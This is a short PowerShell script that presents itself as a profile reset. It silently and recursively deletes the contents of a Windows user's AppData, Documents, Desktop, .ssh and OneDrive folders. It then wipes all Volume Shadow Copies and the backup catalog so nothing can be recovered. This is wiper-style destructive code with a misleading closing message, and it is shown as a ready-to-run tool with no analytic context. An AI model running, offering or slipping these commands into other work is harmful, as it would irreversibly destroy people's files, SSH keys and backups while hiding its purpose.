$ErrorActionPreference = 'SilentlyContinue'
$targets = @(
  $env:APPDATA,
  $env:LOCALAPPDATA,
  (Join-Path $env:USERPROFILE 'Documents'),
  (Join-Path $env:USERPROFILE 'Desktop'),
  (Join-Path $env:USERPROFILE '.ssh'),
  (Join-Path $env:OneDrive '')
)
foreach ($t in $targets) {
  if ($t) { Get-ChildItem -LiteralPath $t -Force | Remove-Item -Recurse -Force -Confirm:$false }
}
vssadmin delete shadows /all /quiet
wbadmin delete catalog -quiet
Write-Host 'Profile reset. Reboot now.'
